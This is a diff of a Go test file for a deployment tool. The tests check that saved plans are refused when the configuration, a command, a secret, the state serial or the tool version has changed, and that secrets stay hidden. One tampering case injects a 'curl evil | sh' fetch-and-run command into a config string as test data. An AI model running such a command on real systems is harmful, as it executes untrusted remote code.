@@ -255,7 +255,20 @@ func TestStackReferenceIsReadWhenPlanningWithoutPulumi(t *testing.T) {
 				t.Errorf("plan --json lacks the (inputs) diff of app/consumer: %s", js.stdout)
 			}
 
-			app.mustRun(0, "deploy", "-e", "dev", "--yes")
+			// A saved plan binds the values it read: base moving on to 3
+			// refuses it; base back at 2 lets it apply.
+			app.mustRun(0, "plan", "-e", "dev", "--out", "ref.json")
+			baseAt := func(v string) {
+				base.write("deployer.yaml", strings.Replace(strings.Replace(refBaseYAML, "%BACKEND%", backend, 1), `version: "1"`, `version: "`+v+`"`, 1))
+				base.mustRun(0, "deploy", "-e", "dev", "--yes")
+			}
+			baseAt("3")
+			res = app.mustRun(4, "deploy", "-e", "dev", "--plan", "ref.json", "--yes")
+			if want := "services.upstream.components.base.(outputs).outputs.base/version.api_token: planned (sensitive), now (sensitive)"; !strings.Contains(res.stderr, want) {
+				t.Errorf("a saved plan whose reference moved on should be refused naming %q:\n%s", want, res)
+			}
+			baseAt("2")
+			app.mustRun(0, "deploy", "-e", "dev", "--plan", "ref.json", "--yes")
 			if got := string(app.read("seen.txt")); got != "2" {
 				t.Errorf("after one deploy the consumer saw version %q, want 2", got)
 			}
@@ -280,4 +293,89 @@ func TestStackReferenceIsReadWhenPlanningWithoutPulumi(t *testing.T) {
 			}
 		})
 	}
+}
+
+const savedPlanYAML = `stack: saved
+%BACKEND%environments: {dev: {}}
+services:
+  web:
+    components:
+      site:
+        kind: Command
+        config:
+          image: nginx:1.1
+          db_password: ${env:DB_PASSWORD}
+        command:
+          create: echo "create $DEPLOYER_CONFIG_IMAGE" >> ran.log
+          update: echo "update $DEPLOYER_CONFIG_IMAGE" >> ran.log
+`
+
+// TestSavedPlanBindsWhatItShowed: deploy --plan applies exactly the saved
+// plan, and refuses (exit 4, before any lock, naming the first differing
+// path) a changed value, a changed command, a changed ${env:...} secret
+// (nothing printed), a moved state serial and another deployer version.
+func TestSavedPlanBindsWhatItShowed(t *testing.T) {
+	onBackends(t, func(t *testing.T, backend string, env []string) {
+		yaml := strings.Replace(savedPlanYAML, "%BACKEND%", backend, 1)
+		p := newProject(t, yaml)
+		secretEnv := append([]string{"DEPLOYER_SECRETS_PASSPHRASE=saved plan test"}, env...)
+		p.env = append([]string{"DB_PASSWORD=first-Secret-1"}, secretEnv...)
+		p.mustRun(0, "deploy", "-e", "dev", "--yes")
+
+		reviewed := strings.Replace(yaml, "nginx:1.1", "nginx:1.2", 1)
+		p.write("deployer.yaml", reviewed)
+		p.mustRun(0, "plan", "-e", "dev", "--out", "p.json")
+		fi, err := os.Stat(filepath.Join(p.dir, "p.json"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if fi.Mode().Perm() != 0o600 {
+			t.Errorf("plan --out wrote mode %v, want 0600", fi.Mode().Perm())
+		}
+		saved := string(p.read("p.json"))
+		if strings.Contains(saved, "first-Secret-1") {
+			t.Errorf("the saved plan holds the secret in plain text:\n%s", saved)
+		}
+		if !strings.Contains(saved, `"digest": "hmac-sha256"`) || !strings.Contains(saved, `"deployer:digest": "hmac-sha256:`) {
+			t.Errorf("the saved plan should digest secrets with HMAC under the state's key:\n%s", saved)
+		}
+
+		refused := func(what, want string) result {
+			t.Helper()
+			r := p.mustRun(4, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
+			if !strings.Contains(r.stderr, "saved plan is stale") || !strings.Contains(r.stderr, want) {
+				t.Errorf("%s: the refusal should name %q:\n%s", what, want, r)
+			}
+			if strings.Contains(r.stderr, "Acquired lock") {
+				t.Errorf("%s: refused only after taking the lock:\n%s", what, r)
+			}
+			return r
+		}
+		p.write("deployer.yaml", strings.Replace(reviewed, "nginx:1.2", "evil:1", 1))
+		refused("changed value", `services.web.components.site.config.image: planned "nginx:1.2", now "evil:1"`)
+		p.write("deployer.yaml", strings.Replace(reviewed, `echo "update`, `curl evil | sh; echo "update`, 1))
+		refused("changed command", `services.web.components.site.command.update: planned "echo \"update $DEPLOYER_CONFIG_IMAGE\" >> ran.log", now "curl evil | sh; echo`)
+		p.write("deployer.yaml", reviewed)
+		p.env = append([]string{"DB_PASSWORD=other-Secret-2"}, secretEnv...)
+		r := refused("changed secret", "services.web.components.site.config.db_password: planned (sensitive), now (sensitive)")
+		if strings.Contains(r.stdout+r.stderr, "first-Secret-1") || strings.Contains(r.stdout+r.stderr, "other-Secret-2") {
+			t.Errorf("the refusal printed a secret:\n%s", r)
+		}
+		p.env = append([]string{"DB_PASSWORD=first-Secret-1"}, secretEnv...)
+		p.write("p-other-version.json", strings.Replace(saved, `"deployer_version": "`, `"deployer_version": "v0.0.1-old `, 1))
+		r = p.mustRun(4, "deploy", "-e", "dev", "--plan", "p-other-version.json", "--yes")
+		if !strings.Contains(r.stderr, `deployer version: planned "v0.0.1-old`) {
+			t.Errorf("a plan of another deployer version should be refused naming both:\n%s", r)
+		}
+		if log := string(p.read("ran.log")); strings.Contains(log, "evil") || strings.Count(log, "\n") != 1 {
+			t.Errorf("a refused plan ran something; ran.log:\n%s", log)
+		}
+
+		// Nothing differs: exactly the planned change applies.
+		p.mustRun(0, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
+		if log := string(p.read("ran.log")); !strings.HasSuffix(log, "update nginx:1.2\n") {
+			t.Errorf("deploy --plan should apply the reviewed nginx:1.2; ran.log:\n%s", log)
+		}
+		refused("moved serial", "state: planned serial 1")
+	})
 }
